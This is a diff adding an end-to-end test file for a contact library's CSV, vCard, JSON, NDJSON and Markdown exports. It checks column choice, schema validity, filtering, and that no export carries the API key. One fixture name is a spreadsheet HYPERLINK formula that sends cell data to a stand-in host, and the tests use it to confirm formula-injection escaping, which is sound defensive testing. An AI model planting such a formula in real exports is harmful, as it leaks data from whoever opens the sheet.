@@ -1,0 +1,151 @@
+import { readFileSync } from 'node:fs';
+import { Ajv2020 } from 'ajv/dist/2020.js';
+import ICAL from 'ical.js';
+import papaparse from 'papaparse';
+import type { Page } from 'puppeteer-core';
+import { parseVCards } from 'vcard4-ts';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { exportAs, type Saving, saveInto } from '../harness/downloads.ts';
+import { fetchPerson, openLibrary, openPerson, seesCount } from '../harness/library.ts';
+import { shareWorld } from '../harness/shared-world.ts';
+import { fill, find, goodKey, press, saveKey } from '../harness/world.ts';
+
+const maya = 'Maya Lindqvist';
+const edgar = '=HYPERLINK("https://elsewhere.example/?leak="&A1,"Edgar Formula")';
+
+const shared = shareWorld(async (world) => {
+  await saveKey(world);
+  await fetchPerson(world, 'maya-lindqvist', maya);
+  await fetchPerson(world, 'edgar-formula', edgar);
+  await fetchPerson(world, 'tomas-okafor', 'Tomás Okafor');
+});
+
+let page: Page;
+let saving: Saving;
+beforeAll(async () => {
+  const into = await saveInto(shared());
+  saving = into.saving;
+  page = await openLibrary(shared());
+  await openPerson(page, maya);
+  await fill(page, 'Add tag', '+tagged =2+2');
+  await page.keyboard.press('Enter');
+  await find(page, 'button', 'Remove tag +tagged =2+2');
+  return into.remove;
+});
+afterAll(() => page?.close());
+
+const today = new Intl.DateTimeFormat('sv-SE').format(new Date());
+const fileName = (count: number, ending: string) =>
+  `calling-card-${today}-${count}-${count === 1 ? 'profile' : 'profiles'}.${ending}`;
+
+type Exported = { readonly profiles: readonly { readonly slug: string }[] };
+
+/** As papaparse reads it, each row by its headers. */
+function readCsv(text: string) {
+  const { data, errors, meta } = papaparse.parse<Record<string, string>>(text, {
+    header: true,
+    skipEmptyLines: true,
+  });
+  expect(errors).toEqual([]);
+  return { rows: data, headers: meta.fields };
+}
+
+test('a CSV of everybody has a row a person, and no cell that a spreadsheet would run', async () => {
+  const { name, text } = await exportAs(page, saving, 'CSV');
+  expect(name).toBe(fileName(3, 'csv'));
+  expect(text.charCodeAt(0)).not.toBe(0xfeff);
+  const { rows, headers } = readCsv(text);
+  expect(headers?.slice(0, 5)).toEqual(['Name', 'Headline', 'Role', 'Company', 'Location']);
+  expect(rows.map((row) => row.Name)).toEqual(['Tomás Okafor', `'${edgar}`, maya]);
+  expect(rows.at(-1)).toMatchObject({ Slug: 'maya-lindqvist', Company: 'Northwind Robotics' });
+  expect(rows.at(-1)?.Tags).toMatch(/^'/);
+  for (const cell of rows.flatMap((row) => Object.values(row))) {
+    for (const start of cell.split(/[\r\n;\t]/)) expect(start).not.toMatch(/^\s*[=+\-@]\D/);
+  }
+});
+
+test('a CSV has the columns chosen, and a byte order mark on request', async () => {
+  const { text } = await exportAs(page, saving, 'CSV', async () => {
+    await press(page, 'Choose none');
+    await press(page, 'Name', 'checkbox');
+    await press(page, 'Slug', 'checkbox');
+    await press(page, 'Add a byte order mark, for Excel', 'checkbox');
+  });
+  expect(text.slice(0, 1)).toBe('\ufeff');
+  const { rows, headers } = readCsv(text);
+  expect(headers).toEqual(['Name', 'Slug']);
+  expect(rows.map((row) => row.Slug)).toEqual(['tomas-okafor', 'edgar-formula', 'maya-lindqvist']);
+});
+
+test('vCards are read by two parsers that are not ours', async () => {
+  const { name, text } = await exportAs(page, saving, 'vCard');
+  expect(name).toBe(fileName(3, 'vcf'));
+  const { vCards = [], nags } = parseVCards(text);
+  expect(nags).toBeUndefined();
+  expect(vCards.map((card) => card.FN[0]?.value)).toEqual(['Tomás Okafor', edgar, maya]);
+  expect(vCards[2]?.ORG?.[0]?.value).toEqual(['Northwind Robotics']);
+  expect(vCards[2]?.CATEGORIES?.[0]?.value).toEqual(['+tagged =2+2']);
+
+  const cards = (ICAL.parse(text) as unknown[][]).map((card) => new ICAL.Component(card));
+  expect(cards.map((card) => card.getFirstPropertyValue('fn'))).toEqual([
+    'Tomás Okafor',
+    edgar,
+    maya,
+  ]);
+});
+
+test('JSON is by its schema, and NDJSON tells the same a line each', async () => {
+  const json = await exportAs(page, saving, 'JSON');
+  const ndjson = await exportAs(page, saving, 'NDJSON');
+  expect([json.name, ndjson.name]).toEqual([fileName(3, 'json'), fileName(3, 'ndjson')]);
+
+  const schema = new URL('../../../utils/export/export-format.schema.json', import.meta.url);
+  const isExport = new Ajv2020({ strict: false, validateFormats: false }).compile(
+    JSON.parse(readFileSync(schema, 'utf8')),
+  );
+  const parsed: Exported = JSON.parse(json.text);
+  expect(isExport(parsed), JSON.stringify(isExport.errors)).toBe(true);
+  expect(parsed.profiles.map(({ slug }) => slug)).toEqual([
+    'tomas-okafor',
+    'edgar-formula',
+    'maya-lindqvist',
+  ]);
+  const lines = ndjson.text.trimEnd().split('\n');
+  expect(lines.slice(1, -1).map((line) => JSON.parse(line))).toEqual(parsed.profiles);
+  expect(lines.at(-1)).toBe('{"end":true}');
+});
+
+test('Markdown has a section a person', async () => {
+  const { name, text } = await exportAs(page, saving, 'Markdown');
+  expect(name).toBe(fileName(3, 'md'));
+  expect(text.match(/^# .*/gm)).toHaveLength(3);
+  expect(text).toContain(`# ${maya}\n`);
+  expect(text).toContain('Northwind Robotics');
+});
+
+test('no file carries the API key', async () => {
+  for (const format of ['CSV', 'JSON', 'NDJSON', 'vCard', 'Markdown']) {
+    const { text } = await exportAs(page, saving, format);
+    expect(text.length).toBeGreaterThan(100);
+    expect(text).not.toContain(goodKey);
+  }
+});
+
+test('of a selection, those selected are exported', async () => {
+  await press(page, 'Select Tomás Okafor', 'checkbox');
+  await press(page, `Select ${maya}`, 'checkbox');
+  const { name, text } = await exportAs(page, saving, 'CSV');
+  expect(name).toBe(fileName(2, 'csv'));
+  expect(readCsv(text).rows.map((row) => row.Slug)).toEqual(['tomas-okafor', 'maya-lindqvist']);
+  await press(page, 'Select Tomás Okafor', 'checkbox');
+  await press(page, `Select ${maya}`, 'checkbox');
+});
+
+test('of a search, those found are exported', async () => {
+  await fill(page, 'Search library', 'robotics', 'searchbox');
+  await seesCount(page, 1);
+  const { name, text } = await exportAs(page, saving, 'JSON');
+  expect(name).toBe(fileName(1, 'json'));
+  const { profiles }: Exported = JSON.parse(text);
+  expect(profiles.map(({ slug }) => slug)).toEqual(['maya-lindqvist']);
+});
